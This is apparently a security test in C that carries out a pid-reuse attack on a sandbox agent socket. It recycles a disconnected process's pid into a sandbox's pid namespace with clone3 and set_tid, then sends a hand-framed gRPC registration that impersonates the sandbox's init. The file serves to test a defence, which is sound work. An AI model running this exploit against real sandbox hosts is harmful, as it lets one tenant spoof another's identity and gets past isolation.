/* pid_reuse.c: the pid-reuse attack on the agent socket, for tests/security (run as root on
 * the host). A process X under a sandbox's control uid connects to the agent socket, hands the
 * socket to a child C and exits; X's pid is then given (clone3 with set_tid) to a new process
 * inside that sandbox's pid namespace; then C calls Connect on X's connection, naming the
 * sandbox, the way its init would.
 *
 *   pid_reuse SOCKET UID INIT_PID AGENT_ID INSTANCE_ID
 *
 * Prints `reused pid=P` once X's pid lives in the sandbox's pid namespace, then `registered`
 * (the server acked the registration: the attack worked) or `refused` (the call ended without
 * a message) or `closed` (the connection ended). Exit 0 registered, 3 refused or closed, 4 when
 * the pid could not be reused (taken meanwhile), 1 on other failures. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "agent.pb-c.h"

/* struct clone_args up to set_tid_size (CLONE_ARGS_SIZE_VER1) */
struct clone3_args {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
	uint64_t set_tid, set_tid_size;
};

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

static size_t frame(uint8_t *p, unsigned type, unsigned flags, unsigned stream,
		    const void *payload, size_t len)
{
	p[0] = (uint8_t)(len >> 16);
	p[1] = (uint8_t)(len >> 8);
	p[2] = (uint8_t)len;
	p[3] = (uint8_t)type;
	p[4] = (uint8_t)flags;
	p[5] = (uint8_t)(stream >> 24 & 0x7f);
	p[6] = (uint8_t)(stream >> 16);
	p[7] = (uint8_t)(stream >> 8);
	p[8] = (uint8_t)stream;
	if (len)
		memcpy(p + 9, payload, len);
	return 9 + len;
}

/* A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2). */
static size_t literal(uint8_t *p, const char *name, const char *value)
{
	size_t n = strlen(name), v = strlen(value);

	p[0] = 0;
	p[1] = (uint8_t)n;
	memcpy(p + 2, name, n);
	p[2 + n] = (uint8_t)v;
	memcpy(p + 3 + n, value, v);
	return 3 + n + v;
}

static int read_full(int fd, uint8_t *p, size_t n)
{
	while (n) {
		struct pollfd pf = { .fd = fd, .events = POLLIN };
		ssize_t r;

		if (poll(&pf, 1, 15000) <= 0)
			return -1;
		r = read(fd, p, n);
		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

/* C: Connect on fd as the sandbox's init would; the verdict, written to out. */
static const char *speak(int fd, const char *agent_id, const char *instance_id)
{
	static uint8_t out[8192], in[1 << 16];
	Agentic__Sandbox__V1__AgentRegistration reg = AGENTIC__SANDBOX__V1__AGENT_REGISTRATION__INIT;
	Agentic__Sandbox__V1__AgentMessage m = AGENTIC__SANDBOX__V1__AGENT_MESSAGE__INIT;
	uint8_t hdrs[1024], msg[1024];
	size_t n = 0, h = 0, len;

	reg.agent_id = (char *)agent_id;
	reg.instance_id = (char *)instance_id;
	reg.hostname = (char *)"pid-reuse";
	m.payload_case = AGENTIC__SANDBOX__V1__AGENT_MESSAGE__PAYLOAD_REGISTRATION;
	m.registration = &reg;
	len = protobuf_c_message_get_packed_size(&m.base);
	if (len + 5 > sizeof(msg))
		return "error";
	msg[0] = 0;
	msg[1] = (uint8_t)(len >> 24);
	msg[2] = (uint8_t)(len >> 16);
	msg[3] = (uint8_t)(len >> 8);
	msg[4] = (uint8_t)len;
	protobuf_c_message_pack(&m.base, msg + 5);
	hdrs[h++] = 0x83; /* :method POST */
	hdrs[h++] = 0x86; /* :scheme http */
	h += literal(hdrs + h, ":path", "/agentic.sandbox.v1.AgentService/Connect");
	h += literal(hdrs + h, ":authority", "localhost");
	h += literal(hdrs + h, "content-type", "application/grpc");
	h += literal(hdrs + h, "te", "trailers");
	h += literal(hdrs + h, "x-agent-id", agent_id);
	h += literal(hdrs + h, "x-agent-instance-id", instance_id);
	memcpy(out, preface, sizeof(preface) - 1);
	n = sizeof(preface) - 1;
	n += frame(out + n, 0x4, 0, 0, NULL, 0);
	n += frame(out + n, 0x1, 0x4, 1, hdrs, h);
	n += frame(out + n, 0x0, 0, 1, msg, len + 5);
	if (send(fd, out, n, MSG_NOSIGNAL) != (ssize_t)n)
		return "closed";
	for (;;) {
		uint8_t fh[9];
		uint32_t flen, stream;

		if (read_full(fd, fh, 9) != 0)
			return "closed";
		flen = (uint32_t)fh[0] << 16 | (uint32_t)fh[1] << 8 | fh[2];
		stream = ((uint32_t)fh[5] & 0x7f) << 24 | (uint32_t)fh[6] << 16 |
			 (uint32_t)fh[7] << 8 | fh[8];
		if (flen > sizeof(in) || read_full(fd, in, flen) != 0)
			return "closed";
		if (fh[3] == 0x4 && !(fh[4] & 0x1)) { /* SETTINGS: ack it */
			uint8_t ack[9];

			frame(ack, 0x4, 0x1, 0, NULL, 0);
			(void)!send(fd, ack, sizeof(ack), MSG_NOSIGNAL);
		}
		if (stream != 1)
			continue;
		if (fh[3] == 0x0 && flen > 5)
			return "registered";
		if ((fh[3] == 0x1 && (fh[4] & 0x1)) || fh[3] == 0x3)
			return "refused";
	}
}

static int dial(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
		return -1;
	return fd;
}

int main(int argc, char **argv)
{
	int go[2], verdict[2], nsfd;
	unsigned uid;
	pid_t x, r = -1;
	char path[64], buf[64] = "";
	ssize_t n;
	int st;

	if (argc != 6) {
		fprintf(stderr, "usage: pid_reuse SOCKET UID INIT_PID AGENT_ID INSTANCE_ID\n");
		return 2;
	}
	uid = (unsigned)strtoul(argv[2], NULL, 10);
	signal(SIGPIPE, SIG_IGN);
	if (pipe(go) != 0 || pipe(verdict) != 0)
		return 1;
	x = fork();
	if (x == 0) {
		int fd;

		if (setgroups(0, NULL) != 0 || setgid(uid) != 0 || setuid(uid) != 0)
			_exit(1);
		fd = dial(argv[1]);
		if (fd < 0)
			_exit(1);
		if (fork() == 0) {
			const char *v;
			char c;

			close(go[1]);
			close(verdict[0]);
			if (read(go[0], &c, 1) != 1)
				_exit(1);
			v = speak(fd, argv[4], argv[5]);
			(void)!write(verdict[1], v, strlen(v));
			_exit(0);
		}
		_exit(0); /* X exits: its pid is free once reaped */
	}
	close(go[0]);
	close(verdict[1]);
	if (x < 0 || waitpid(x, &st, 0) != x || !WIFEXITED(st) || WEXITSTATUS(st) != 0) {
		printf("error: the connecting process failed\n");
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/%s/ns/pid", argv[3]);
	nsfd = open(path, O_RDONLY | O_CLOEXEC);
	if (nsfd < 0 || setns(nsfd, CLONE_NEWPID) != 0) {
		printf("error: setns into %s: %s\n", path, strerror(errno));
		return 1;
	}
	/* X's pid on the host, any free pid inside the sandbox */
	for (pid_t inner = 20000; inner < 20100 && r < 0; inner++) {
		pid_t tid[2] = { inner, x };
		struct clone3_args a = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t)tid,
					 .set_tid_size = 2 };

		r = (pid_t)syscall(SYS_clone3, &a, sizeof(a));
		if (r == 0) {
			pause();
			_exit(0);
		}
		if (r < 0 && errno != EEXIST) {
			printf("error: clone3 with set_tid: %s\n", strerror(errno));
			return errno == EEXIST ? 4 : 1;
		}
	}
	if (r != x) {
		printf("error: pid %d could not be reused\n", (int)x);
		return 4;
	}
	printf("reused pid=%d\n", (int)x);
	fflush(stdout);
	(void)!write(go[1], "g", 1);
	n = read(verdict[0], buf, sizeof(buf) - 1);
	buf[n > 0 ? n : 0] = '\0';
	kill(r, SIGKILL);
	waitpid(r, &st, 0);
	printf("%s\n", buf[0] ? buf : "error");
	return strcmp(buf, "registered") == 0 ? 0 : buf[0] ? 3 : 1;
}
